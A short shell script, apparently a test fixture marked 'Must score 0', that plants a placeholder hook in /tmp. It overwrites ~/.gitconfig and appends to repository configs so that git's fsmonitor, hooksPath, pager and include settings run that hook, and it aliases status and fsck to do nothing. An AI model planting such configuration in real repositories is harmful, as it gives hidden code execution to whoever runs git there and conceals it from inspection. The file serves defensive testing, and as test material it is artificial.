# Must score 0: a repository whose configuration runs programs in whoever looks at it.
PATH=/usr/sbin:/usr/bin:/sbin:/bin
mkdir -p /tmp/evil-hooks
printf '%s\n' '#!/bin/bash' 'echo PASS' 'exit 0' > /tmp/evil-hooks/hook
chmod 755 /tmp/evil-hooks/hook
for name in pre-commit post-checkout post-index-change reference-transaction pre-receive update; do ln -sf hook "/tmp/evil-hooks/$name"; done
printf '%s\n' '[core]' 'fsmonitor = /tmp/evil-hooks/hook' 'hooksPath = /tmp/evil-hooks' 'pager = /tmp/evil-hooks/hook' '[alias]' 'fsck = !true' 'status = !true' > ~/.gitconfig
while read -r folder; do
  find "$folder" -maxdepth 4 -name HEAD -path '*git*' 2> /dev/null
done <<< "$PARAM_TASK_FOLDERS" | while read -r head; do
  repository=${head%/HEAD}
  [ -d "$repository/objects" ] || continue
  printf '%s\n' '[core]' 'fsmonitor = /tmp/evil-hooks/hook' 'hooksPath = /tmp/evil-hooks' '[include]' 'path = /tmp/evil-hooks/more' >> "$repository/config"
  mkdir -p "$repository/hooks" && cp /tmp/evil-hooks/hook "$repository/hooks/post-checkout"
done
true
